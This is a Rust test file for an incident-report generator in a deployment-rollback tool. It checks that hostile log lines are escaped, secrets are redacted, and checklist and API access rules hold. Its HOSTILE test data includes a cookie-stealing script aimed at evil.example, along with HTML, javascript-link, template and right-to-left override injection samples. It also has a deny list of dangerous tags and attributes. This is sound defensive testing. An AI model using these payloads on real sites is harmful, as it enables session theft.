//! The incident report: written from what was kept, with nothing in it that a hostile log line could do.

use std::sync::LazyLock;
use std::time::Duration;

use backstop::core::Timestamp;
use backstop::core::decision::{Compared, Reason};
use backstop::core::ledger::{Proof, RollbackOutcome, RollbackRecord, Witness};
use backstop::core::release::RollbackId;
use backstop::core::settings::Condition;
use backstop::report::checklist::{Owners, Point, Tick, Ticket};
use backstop::report::difference::Releases;
use backstop::report::strip::Slot;
use backstop::report::{
    Incident, Reached, Row, Scene, Sources, Told, html, incident, log_of, markdown, smoke_of,
};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::cli::{err, succeeded};
use crate::picture::{CAROLS_TOKEN, NEW_YEAR, Surface, TOKEN, fleet, record};

/// What a hostile or broken program writes into its log.
const HOSTILE: [&str; 7] = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "</pre><img src=x onerror=alert(1)>",
    "``` end of the fence\n# A heading | a row [a link](javascript:alert(1)) @everyone",
    "{{ i.id }} {% include 'x' %} &lt;b&gt;",
    "password=hunter2hunter2 for postgres://shop:swordfish@db/shop",
    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "\u{1b}[31mred\u{1b}[0m \u{202e}gpj.exe",
];

const SECRETS: [&str; 5] = ["hunter2", "swordfish", "eyJhbGci", "opensesame", "tr0ub4dor"];

/// A bad release: deployed, wrong from four minutes later on, rolled back, and well again.
pub(crate) fn kept(record: RollbackRecord) -> Sources {
    let at = record.started;
    let (deployed, onset) = (at.before(Duration::from_secs(420)), at.before(Duration::from_secs(90)));
    let end = at + Duration::from_secs(720);
    let first = at.before(Duration::from_secs(1_800)).as_millis() / 15_000 * 15_000;
    let slots: Vec<Slot> = (0..)
        .map(|i| first + i * 15_000)
        .take_while(|slot| *slot < end.as_millis())
        .enumerate()
        .map(|(i, slot)| signals(i as u64, Timestamp::from_millis(slot), (deployed, onset, at)))
        .collect();
    let before = slots.iter().filter(|slot| slot.at <= at.as_millis()).cloned().collect();
    let scene = scene(deployed, before);
    let told = |secs: u64, kind: &str, title: &str, took: Option<u64>| Told {
        at: at + Duration::from_secs(secs),
        kind: kind.into(),
        title: title.into(),
        delivered: took.map(|took| at + Duration::from_secs(secs + took)),
        routed: true,
        channels: vec![Reached {
            channel: "ops".into(),
            by: Some("webhook".into()),
            delivered: took.map(|took| at + Duration::from_secs(secs + took)),
            given_up: false,
            attempts: 1 + u32::from(took.is_none()) * 4,
            error: took.is_none().then(|| "hooks.example answered 503".to_owned()),
        }],
    };
    let line = |ms: u64, what: &str| (at + Duration::from_millis(ms), what.to_owned());
    let events: Vec<Value> =
        vec![json!({"event": "succeeded", "output": {"output": "evidence", "log": lines()}})];
    Sources {
        journal: vec![
            line(4, "the image sha256:aaaa is here"),
            line(350, "create shop (from the record)"),
            line(420, "stop shop (at most 3s): killed at once: its main process does not react to SIGTERM"),
            line(1_200, "start shop"),
            line(33_000, "remove shop.rbold-0000"),
        ],
        smoke: None,
        log: log_of(&events, &["opensesame".to_owned()]),
        told: vec![
            told(0, "rollback_in_progress", "ROLLBACK IN PROGRESS: shop", Some(1)),
            told(33, "rollback_complete", "ROLLBACK COMPLETE: shop", None),
        ],
        scene: Some(scene),
        after: slots,
        releases: Some(releases()),
        ticks: Vec::new(),
        ticket: None,
        record,
    }
}

/// The matrix and the signals at the decision.
fn scene(deployed: Timestamp, slots: Vec<Slot>) -> Scene {
    let row = |rule: &str, answer: &str, value: &str, threshold: &str, baseline: Option<&str>| Row {
        rule: rule.into(),
        value: value.into(),
        threshold: threshold.into(),
        baseline: baseline.map(str::to_owned),
        samples: 1200,
        answer: answer.into(),
        action: "rollback".into(),
        severity: "critical".into(),
    };
    Scene {
        deployed: Some(deployed),
        rows: vec![
            row(
                "error_rate",
                "breached",
                "19 % of 1180 requests failed",
                "> 5.0 % for 10m",
                Some("0.4 % over 30m"),
            ),
            row(
                "latency_p99",
                "pending",
                "12 % of 1180 requests above 362ms",
                "p99 > 2x baseline for 10m",
                Some("p99 181ms over 30m"),
            ),
            row("health", "ok", "0 failures; last: 200 OK", "2+ in a row over 10s", None),
            row("memory", "ok", "61 % of 256 MiB", "> 90 % for 1m", None),
            row("log_errors", "off", "switched off", "> 3x baseline", None),
        ],
        slots,
        error_line: Some(0.05),
        latency_line: Some((2.0, false)),
        memory_line: Some(0.90),
        owners: Owners { cause: "Team <Checkout>".into(), ..Owners::default() },
    }
}

fn lines() -> Vec<String> {
    let mut all: Vec<String> = (0..12)
        .map(|i| {
            format!("2030-01-01T00:00:{i:02}Z ERROR checkout: upstream timed out after 1500 ms (order {i})")
        })
        .collect();
    all.extend(HOSTILE.iter().map(|line| (*line).to_owned()));
    all.push("login with opensesame was refused".to_owned());
    all
}

fn signals(i: u64, at: Timestamp, (deployed, onset, decided): (Timestamp, Timestamp, Timestamp)) -> Slot {
    let noise = (i * 37 % 11) as f64 / 11.0;
    let bad = at >= onset && at <= decided;
    let new = at >= deployed && at <= decided;
    let requests = 280 + i * 13 % 40;
    let share = if bad { 0.16 + noise * 0.08 } else { 0.002 + noise * 0.004 };
    Slot {
        at: at.as_millis(),
        requests,
        errors: (requests as f64 * share) as u64,
        p99: Some(if bad { 0.48 + noise * 0.2 } else { 0.17 + noise * 0.025 }),
        mean: None,
        checks: 3,
        failed: u32::from(bad && i.is_multiple_of(3)),
        memory: Some(if new { 0.55 + 0.002 * (i % 60) as f64 } else { 0.48 + noise * 0.01 }),
        log_errors: Some(if bad { 40 + i % 9 } else { i % 2 }),
    }
}

fn releases() -> Releases {
    let good = json!({"Image": "sha256:aaaaaaaaaaaaaaaa", "Config": {"Image": "shop:v1", "Cmd": ["serve"],
        "Env": ["DB_PASSWORD=hunter2hunter2", "LOG_LEVEL=info"], "Labels": {"team": "checkout"}}});
    let bad = json!({"Image": "sha256:bbbbbbbbbbbbbbbb", "Config": {"Image": "shop:v2",
        "Cmd": ["serve", "--pool", "4"],
        "Env": ["DB_PASSWORD=tr0ub4dor&3", "LOG_LEVEL=debug", "NEW_CHECKOUT=on"],
        "Labels": {"team": "checkout", "note": "<b>bold</b>"}}});
    let origin = |commit: &str, author: &str| {
        json!({"Config": {"Labels": {"org.opencontainers.image.revision": commit,
            "org.opencontainers.image.authors": author, "org.opencontainers.image.version": "2.3.0"}}})
    };
    Releases::compare(
        (&good, &origin("4f2a9c1d", "Anna")),
        (&bad, &origin("9b31e07a", "Ben <ben@shop.example>")),
    )
}

/// The rollback that the reports of these tests are about.
fn errors(outcome: RollbackOutcome) -> RollbackRecord {
    let mut record = record(7, NEW_YEAR + Duration::from_secs(14 * 3600 + 142), outcome);
    record.onset = Some(record.started.before(Duration::from_secs(90)));
    record.decision.rule = Some("error_rate".into());
    if matches!(record.outcome, RollbackOutcome::Verified(_)) {
        let row = |condition, rule: &str| Witness { condition, rule: rule.into(), samples: 412 };
        let requests = vec![row(Condition::ErrorRate, "error_rate"), row(Condition::Latency, "latency_p99")];
        record.proof = Some(Proof { checks: 6, healthy: 0, requests });
    }
    record.decision.reason = Reason::Requests {
        bad: 224,
        total: 1180,
        window: Duration::from_secs(60),
        limit: 0.10,
        allowed: 0.05,
        by_chance: 1e-12,
        after: Duration::from_secs(330),
        compared: Compared::Errors {
            threshold: 0.05,
            before: Some(0.004),
            span: Some(Duration::from_secs(1_800)),
        },
    };
    record
}

fn verified() -> Incident {
    let said = "All checks passing for 30s (9 rows ok; 6 health checks passed); image and configuration are those of shop:v1";
    incident(kept(errors(RollbackOutcome::Verified(said.into()))))
}

static PAGE: LazyLock<String> = LazyLock::new(|| html::write(&verified()).unwrap());

#[test]
fn the_markdown_is_as_written() {
    insta::assert_snapshot!("incident_markdown", markdown::write(&verified()));
}

#[test]
fn no_secret_is_in_any_form_of_it() {
    let json = serde_json::to_string(&verified()).unwrap();
    for (form, text) in
        [("html", PAGE.as_str()), ("markdown", &markdown::write(&verified())), ("json", &json)]
    {
        for secret in SECRETS {
            assert!(!text.contains(secret), "{secret} is in the {form}");
        }
        assert!(text.contains("[hidden]"), "nothing was hidden in the {form}");
    }
}

/// A page as a browser takes it apart: the tags that open, with their attributes.
fn tags(page: &str) -> Vec<&str> {
    let mut tags = Vec::new();
    let mut rest = page;
    while let Some(begin) = rest.find('<') {
        let end = rest[begin..].find('>').expect("a tag that ends") + begin;
        let tag = &rest[begin + 1..end];
        if !tag.starts_with('/') && !tag.starts_with('!') {
            tags.push(tag);
        }
        rest = &rest[end + 1..];
    }
    tags
}

#[test]
fn the_page_is_one_file_that_runs_and_loads_nothing() {
    let tags = tags(&PAGE);
    let names: std::collections::BTreeSet<&str> = tags
        .iter()
        .filter_map(|tag| tag.split_whitespace().next())
        .map(|name| name.trim_end_matches('/'))
        .collect();
    for never in ["script", "img", "link", "iframe", "object", "form", "a", "b>", "base"] {
        assert!(!names.contains(never), "<{never}> is in the page: {names:?}");
    }
    for tag in &tags {
        for attribute in [" src=", " href=", " style=", " onerror", " onload", "javascript:"] {
            assert!(!tag.contains(attribute), "{attribute} in <{tag}>");
        }
    }
    assert_eq!(PAGE.matches("<style>").count(), 1);
    assert!(
        PAGE.contains("default-src &#x27;none&#x27;; style-src &#x27;sha256-")
            || PAGE.contains("default-src 'none'; style-src 'sha256-")
    );
    // What was hostile is there, as text.
    assert!(PAGE.contains("&lt;script&gt;fetch("), "the line itself is shown");
    assert!(PAGE.contains("{% include"), "and no template is made of it");
    assert!(!PAGE.contains('\u{1b}'));
}

#[test]
fn the_page_opens_and_closes_everything_and_tells_whoever_cannot_see() {
    let mut open: Vec<&str> = Vec::new();
    let empty = ["meta", "br", "line", "rect", "path", "circle"];
    let mut rest = PAGE.as_str();
    while let Some(begin) = rest.find('<') {
        let end = rest[begin..].find('>').unwrap() + begin;
        let tag = &rest[begin + 1..end];
        rest = &rest[end + 1..];
        if tag.starts_with('!') || tag.ends_with('/') {
            continue;
        }
        match tag.strip_prefix('/') {
            Some(name) => assert_eq!(open.pop(), Some(name), "before {}", &rest[..rest.len().min(80)]),
            None => {
                let name = tag.split_whitespace().next().unwrap();
                if !empty.contains(&name) {
                    open.push(name);
                }
            }
        }
    }
    assert!(open.is_empty(), "never closed: {open:?}");
    assert!(PAGE.contains("<html lang=\"en\">") && PAGE.contains("name=\"viewport\""));
    assert_eq!(PAGE.matches("role=\"img\" aria-labelledby=\"plot").count(), 6, "every plot has words");
    assert!(PAGE.contains("prefers-color-scheme:dark"));
    for words in [
        "Failed requests",
        "Before the deployment",
        "Post-mortem held",
        "between 2030-01-02",
        "Team &lt;Checkout&gt;",
        "9b31e07a",
    ] {
        assert!(PAGE.contains(words), "{words} is not in the page");
    }
    if let Some(file) = std::env::var_os("INCIDENT_PAGE") {
        std::fs::write(file, PAGE.as_str()).unwrap();
    }
}

#[test]
fn what_was_not_kept_is_said_to_be_missing() {
    let mut record = errors(RollbackOutcome::Stuck("no space".into()));
    record.onset = None;
    record.applied = None;
    let bare = Sources {
        record,
        journal: Vec::new(),
        smoke: None,
        log: Vec::new(),
        told: Vec::new(),
        scene: None,
        after: Vec::new(),
        releases: None,
        ticks: Vec::new(),
        ticket: None,
    };
    let report = incident(bare);
    assert_eq!(report.missing.len(), 3, "{:?}", report.missing);
    assert!(report.plots.is_empty());
    let page = html::write(&report).unwrap();
    assert!(page.contains("Missing: ") && page.contains("Nobody: no way to announce"));
    let open: Vec<_> =
        report.checklist.iter().filter(|item| !item.done).map(|item| item.what.as_str()).collect();
    assert!(open.contains(&"Rollback executed") && open.contains(&"Team notified"), "{open:?}");
    assert!(markdown::write(&report).contains("- [ ] `executed` Rollback executed (on-call), by "));
}

/// That it runs and nothing complained is no proof that it is healthy, and what no channel took told nobody.
#[test]
fn no_box_is_ticked_by_what_nobody_measured_or_heard() {
    let open = |change: &dyn Fn(&mut Sources)| -> Vec<&'static str> {
        let mut sources = kept(errors(RollbackOutcome::Verified("All checks passing for 30s".into())));
        sources.told[1].delivered = sources.told[0].delivered;
        sources.smoke = Some("smoke exit code 0".into());
        change(&mut sources);
        let points = incident(sources).checklist;
        points.iter().take(11).filter(|item| !item.done).map(|item| item.id.name()).collect()
    };
    assert_eq!(open(&|_| ()), [""; 0]);
    assert_eq!(open(&|s| s.record.proof = Some(Proof::default())), ["healthy", "back_to_normal"]);
    assert_eq!(open(&|s| s.record.proof = None), ["healthy", "back_to_normal"]);
    let only_errors = |s: &mut Sources| {
        let proof = s.record.proof.as_mut().unwrap();
        proof.requests.truncate(1);
        (proof.checks, proof.healthy) = (0, 2);
    };
    assert_eq!(open(&only_errors), ["back_to_normal"], "nothing was measured of response times");
    let to_nobody = |s: &mut Sources| {
        for told in &mut s.told {
            (told.delivered, told.channels) = (None, Vec::new());
        }
    };
    assert_eq!(open(&to_nobody), ["notified", "resolution"]);
    let mut sources = kept(errors(RollbackOutcome::Verified("All checks passing for 30s".into())));
    to_nobody(&mut sources);
    let text = markdown::write(&incident(sources));
    assert!(text.contains("| to nobody: no channel is to have it |"), "{text}");
}

/// Only what is called a test is one: whatever else is done before the verification proves nothing.
#[test]
fn a_hook_that_is_no_test_confirms_nothing() {
    let of = |names: &[&str], failed: Option<usize>| {
        let steps: Vec<Value> = names
            .iter()
            .map(|name| json!({"hook": {"phase": "before_verify", "name": name}}))
            .chain([json!({"hook": {"phase": "after_rollback", "name": "smoke_later"}})])
            .collect();
        let mut events = vec![json!({"event": "planned", "plan": {"steps": steps}})];
        events.extend((0..names.len()).filter(|n| Some(*n) != failed).map(
            |n| json!({"event": "succeeded", "step": n, "output": {"output": "hook", "how": "exit code 0"}}),
        ));
        smoke_of(&events)
    };
    assert_eq!(of(&["reindex", "warm_cache"], None), None);
    assert_eq!(of(&[], None), None);
    assert_eq!(of(&["reindex", "smoke"], None).as_deref(), Some("smoke exit code 0"));
    let both = of(&["Login-flow", "api_tests"], None).unwrap();
    assert_eq!(both, "Login-flow exit code 0; api_tests exit code 0");
    assert_eq!(of(&["login", "smoke"], Some(1)), None, "one of them failed");
    assert_eq!(of(&["smoke", "reindex"], Some(1)).as_deref(), Some("smoke exit code 0"));
}

#[test]
fn every_box_is_ticked_with_proof_or_has_an_owner() {
    for item in verified().checklist {
        assert_ne!(item.done, item.owner.is_some(), "{item:?}");
        assert_eq!(item.done, !item.proof.is_empty(), "{item:?}");
    }
}

fn tick(point: Point, by: &str, note: &str) -> (Point, Tick) {
    let at = NEW_YEAR + Duration::from_secs(20 * 3600);
    (point, Tick { at, by: by.into(), note: note.into() })
}

#[test]
fn what_people_ticked_is_done_in_every_form_of_it() {
    let url = "https://github.com/shop_team/shop/issues/7";
    let report = incident(Sources {
        ticks: vec![
            tick(Point::RootCause, "anna", "a pool of <b>4</b>, password=hunter2hunter2"),
            tick(Point::RootCause, "ben", "indeed"),
            // What Backstop proved needs nobody's word.
            tick(Point::Healthy, "anna", "I looked"),
        ],
        ticket: Some(Ticket { url: Some(url.into()), attempts: 1, error: None }),
        ..kept(errors(RollbackOutcome::Verified("All checks passing for 30s".into())))
    });
    for item in &report.checklist {
        assert_ne!(item.done, item.owner.is_some(), "{item:?}");
        assert_eq!(item.done, !item.proof.is_empty(), "{item:?}");
        assert_eq!(item.done, item.until.is_none(), "what is open has a date: {item:?}");
    }
    let text = markdown::write(&report);
    let said = "- [x] `root_cause` Root cause found: ticked by anna on 2030-01-01 20:00:00 UTC: a pool of \
                &lt;b&gt;4&lt;/b&gt;, password=\\[hidden\\]; ben: indeed\n";
    assert!(text.contains(said), "{text}");
    assert!(text.contains(&format!("- [x] Incident ticket created, with this report: <{url}>\n")), "{text}");
    assert!(text.contains(&format!("| Ticket | <{url}> |")), "{text}");
    let healthy = "- [x] Health checks passing after the rollback: 6 health checks in a row passed\n";
    assert!(text.contains(healthy), "{text}");
    assert!(text.contains("- [ ] `smoke_tests` Smoke tests and login flow confirmed (on-call), by 2030"));
    let page = html::write(&report).unwrap();
    assert!(
        page.contains("ticked by anna on") && page.contains("shop_team") && !page.contains("of <b>"),
        "{page}"
    );
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["ticket"], url);
    let item = json["checklist"].as_array().unwrap().iter().find(|item| item["id"] == "root_cause").unwrap();
    assert_eq!((&item["done"], &item["ticks"][1]["by"]), (&json!(true), &json!("ben")));
    assert!(!text.contains("hunter2") && !page.contains("hunter2"));
}

#[test]
fn a_ticket_that_could_not_be_opened_is_said_to_be_missing() {
    let why = "it answered 401 Unauthorized: Bad credentials";
    let ticket = Some(Ticket { url: None, attempts: 3, error: Some(why.into()) });
    let report = incident(Sources { ticket, ..kept(errors(RollbackOutcome::Stuck("no space".into()))) });
    assert_eq!(report.missing, [format!("a ticket: it could not be opened, tried 3 times: {why}")]);
    assert!(report.checklist.iter().any(|item| item.id == Point::Ticket && !item.done));
}

#[test]
fn a_ticket_has_all_that_is_to_be_done_however_long_the_log_is() {
    let max = 65_536;
    let short = markdown::ticket(&verified(), max);
    let checklist = short.find("## Checklist").unwrap();
    assert!(checklist < short.find("## Timeline").unwrap(), "what is to be done comes first");
    assert!(short.contains("- [ ] `root_cause` Root cause found") && short.contains("## Last log lines"));
    assert!(!short.contains("not the whole report"));
    let mut long = verified();
    long.log = vec!["ü".repeat(500); 200];
    long.timeline = vec![long.timeline[0].clone(); 300];
    let text = markdown::ticket(&long, max);
    assert!(text.chars().count() <= max && text.contains("## Who was told"), "{}", text.chars().count());
    assert_eq!(text.matches("```").count() % 2, 0, "a fence is open");
    let said =
        "This is not the whole report: a ticket has no room for it. `backstop incident r0007` writes it.\n";
    assert!(text.ends_with(said), "{text}");
    let tiny = markdown::ticket(&long, 2_000);
    assert!(tiny.chars().count() <= 2_000 && tiny.ends_with(said), "{tiny}");
}

/// A surface with one rollback, of the kind of id that rollbacks have.
async fn with_a_rollback() -> (Surface, &'static str) {
    let (surface, id) = (Surface::start(fleet(NEW_YEAR)).await, "018c1a2b3c4d5");
    let mut record = errors(RollbackOutcome::Verified("All checks passing for 30s".into()));
    record.id = RollbackId::new(id);
    surface.past.rollbacks.lock().unwrap().push(record);
    (surface, id)
}

#[tokio::test]
async fn the_command_writes_it_of_an_id_a_service_or_the_newest() {
    let (surface, id) = with_a_rollback().await;
    let by_id = succeeded(&surface.run_with_token(&["incident", id]).await);
    assert!(by_id.starts_with("# Incident: shop rolled back\n") && by_id.contains(id), "{by_id}");
    assert_eq!(succeeded(&surface.run_with_token(&["incident"]).await), by_id);
    assert_eq!(
        succeeded(&surface.run_with_token(&["incident", "shop", "--format", "markdown"]).await),
        by_id
    );
    let json = succeeded(&surface.run_with_token(&["incident", "shop", "--json"]).await);
    assert_eq!(serde_json::from_str::<Value>(&json).unwrap()["id"], id);
    let page = tempfile::NamedTempFile::new().unwrap();
    let file = page.path().to_str().unwrap();
    assert_eq!(
        succeeded(&surface.run_with_token(&["incident", id, "--format", "html", "-o", file]).await),
        ""
    );
    assert!(std::fs::read_to_string(file).unwrap().starts_with("<!doctype html>"));

    let nobody = surface.run(&["incident", id]).await;
    assert_eq!(nobody.status.code(), Some(1));
    assert!(err(&nobody).contains("error: ") && err(&nobody).contains("hint: "), "{}", err(&nobody));
    let none = surface.run_with_token(&["incident", "0123456789abc"]).await;
    assert_eq!(
        err(&none),
        "error: there is no rollback `0123456789abc`\nhint: `backstop history` lists the rollbacks\n"
    );
    let unknown = surface.run_with_token(&["incident", "web"]).await;
    assert_eq!(
        err(&unknown),
        "error: no rollback of `web` is on record\nhint: `backstop history` lists the rollbacks\n"
    );
}

#[tokio::test]
async fn items_are_ticked_and_taken_back_by_command() {
    let (surface, id) = with_a_rollback().await;
    let tick = async |args: &[&str]| surface.run_with_token(&[&["incident", "tick"], args].concat()).await;
    let said = succeeded(&tick(&[id, "root_cause", "--note", "a pool of 4"]).await);
    let open = "resolution, smoke_tests, ticket, stakeholders";
    let rest = "fix, deployment_plan, post_mortem, prevention, lessons";
    assert_eq!(said, format!("ticked: Root cause found; still open: {open}, {rest}\n"));
    let by = surface.past.ticks.lock().unwrap()[0].1.by.clone();
    assert!(by == "anna" || by.starts_with("anna@"), "{by}");
    // The name of a service will do, and so will how people write the item.
    let said = succeeded(&tick(&["shop", "Smoke-Tests", "--by", "ben"]).await);
    assert!(said.starts_with("ticked: Smoke tests and login flow confirmed; still open: "), "{said}");
    let (point, tick_of) = surface.past.ticks.lock().unwrap()[1].clone();
    assert_eq!((point, tick_of.by.as_str(), tick_of.note.as_str()), (Point::SmokeTests, "ben", ""));

    // Twice: it says so, and nothing of either is lost.
    let again = succeeded(&tick(&[id, "root_cause"]).await);
    assert!(
        again.contains(" ticked root_cause ") && again.ends_with(" ago already; nothing was changed\n"),
        "{again}"
    );
    let noted = succeeded(&tick(&[id, "root_cause", "--note", "indeed", "--by", "ben"]).await);
    assert!(noted.ends_with(" ago already; what you noted is kept with it\n"), "{noted}");
    let report = succeeded(&surface.run_with_token(&["incident", id]).await);
    assert!(report.contains("- [x] `root_cause` Root cause found: ticked by anna"), "{report}");
    assert!(report.contains(": a pool of 4; ben: indeed\n"), "{report}");

    let back = surface.run_with_token(&["incident", "untick", id, "root_cause", "--by", "carol"]).await;
    assert!(
        succeeded(&back).starts_with("open again: Root cause found; still open: resolution, "),
        "{back:?}"
    );
    assert_eq!(*surface.past.asked.lock().unwrap(), ["untick root_cause by carol"]);
    let nothing = surface.run_with_token(&["incident", "untick", id, "root_cause"]).await;
    assert_eq!(succeeded(&nothing), "root_cause is open; nothing was changed\n");
    let report = succeeded(&surface.run_with_token(&["incident", id]).await);
    assert!(
        report.contains("- [ ] `root_cause` Root cause found (Team &lt;Checkout&gt;), between"),
        "{report}"
    );
}

#[tokio::test]
async fn what_cannot_be_ticked_says_what_can_be() {
    let (surface, id) = with_a_rollback().await;
    let tick = async |args: &[&str]| surface.run_with_token(&[&["incident", "tick"], args].concat()).await;
    let unknown = tick(&[id, "coffee"]).await;
    assert_eq!(unknown.status.code(), Some(1));
    let all = "resolution, smoke_tests, ticket, stakeholders, root_cause, fix, deployment_plan, post_mortem, prevention, lessons";
    assert_eq!(
        err(&unknown),
        format!("error: there is no item `coffee` on the checklist of {id}\nhint: one of: {all}\n")
    );
    let proved = err(&tick(&[id, "healthy"]).await);
    assert!(proved.starts_with("error: healthy is done by Backstop"), "{proved}");
    let none = err(&tick(&["0123456789abc", "fix"]).await);
    assert!(none.starts_with("error: there is no rollback `0123456789abc`"), "{none}");
    let nobody = surface.run(&["incident", "tick", id, "fix"]).await;
    assert_eq!(nobody.status.code(), Some(1));
    assert_eq!(surface.run(&["incident", "tick", id]).await.status.code(), Some(2), "an item is missing");
    *surface.past.failure.lock().unwrap() = Some("the disk is full".into());
    assert!(err(&tick(&[id, "fix"]).await).contains("the disk is full"));
    assert!(surface.past.ticks.lock().unwrap().is_empty());
}

#[tokio::test]
async fn ticks_by_the_api_need_the_token_and_go_under_the_name_of_whose_it_is() {
    let (surface, id) = with_a_rollback().await;
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let post = |path: &str, token: Option<&str>, body: Value| {
        let request =
            http.post(format!("{}/api/v1/rollbacks/{id}/checklist/{path}", surface.url)).json(&body);
        match token {
            Some(token) => request.bearer_auth(token),
            None => request,
        }
        .send()
    };
    for path in ["fix", "fix/untick"] {
        assert_eq!(post(path, None, json!({})).await.unwrap().status(), StatusCode::UNAUTHORIZED);
        let wrong = post(path, Some(TOKEN), json!({"whom": "x"})).await.unwrap();
        assert_eq!(wrong.status(), StatusCode::UNPROCESSABLE_ENTITY);
    }
    let answer =
        post("fix", Some(CAROLS_TOKEN), json!({"by": "somebody else", "note": "v3\nis out"})).await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    let said: Value = answer.json().await.unwrap();
    assert!(said["answer"].as_str().unwrap().starts_with("ticked: Fix developed"), "{said}");
    let (point, tick) = surface.past.ticks.lock().unwrap()[0].clone();
    assert_eq!((point, tick.by.as_str(), tick.note.as_str()), (Point::Fix, "carol", "v3 is out"));
    let long = post("fix", Some(TOKEN), json!({"note": "x".repeat(501)})).await.unwrap();
    assert_eq!(long.status(), StatusCode::BAD_REQUEST);
    assert_eq!(post("tea", Some(TOKEN), json!({})).await.unwrap().status(), StatusCode::NOT_FOUND);
    assert_eq!(post("healthy", Some(TOKEN), json!({})).await.unwrap().status(), StatusCode::CONFLICT);
    assert_eq!(post("fix/untick", Some(CAROLS_TOKEN), json!({})).await.unwrap().status(), StatusCode::OK);
    assert_eq!(*surface.past.asked.lock().unwrap(), ["untick fix by carol"]);
}

#[tokio::test]
async fn the_api_hands_it_out_in_every_form_and_only_to_operators() {
    let surface = Surface::start(fleet(NEW_YEAR)).await;
    surface.past.rollbacks.lock().unwrap().push(errors(RollbackOutcome::Verifying));
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let id = "r0007";
    let ask = |file: &str, token: Option<&str>| {
        let request = http.get(format!("{}/api/v1/rollbacks/{id}/{file}", surface.url));
        let request = match token {
            Some(token) => request.bearer_auth(token),
            None => request,
        };
        request.send()
    };
    for (file, kind) in [
        ("report", "application/json"),
        ("report.html", "text/html; charset=utf-8"),
        ("report.md", "text/markdown; charset=utf-8"),
    ] {
        assert_eq!(ask(file, None).await.unwrap().status(), StatusCode::UNAUTHORIZED, "{file}");
        let answer = ask(file, Some(TOKEN)).await.unwrap();
        assert_eq!(answer.status(), StatusCode::OK, "{file}");
        assert_eq!(answer.headers()["content-type"], kind);
        let policy = answer.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(policy.starts_with("default-src 'none'"), "{policy}");
        assert_eq!(policy.contains("style-src 'sha256-"), file == "report.html", "{policy}");
        assert!(answer.text().await.unwrap().contains("shop"));
    }
    let url = format!("{}/api/v1/rollbacks/nothing/report.html", surface.url);
    let answer = http.get(url).bearer_auth(TOKEN).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::NOT_FOUND);
}
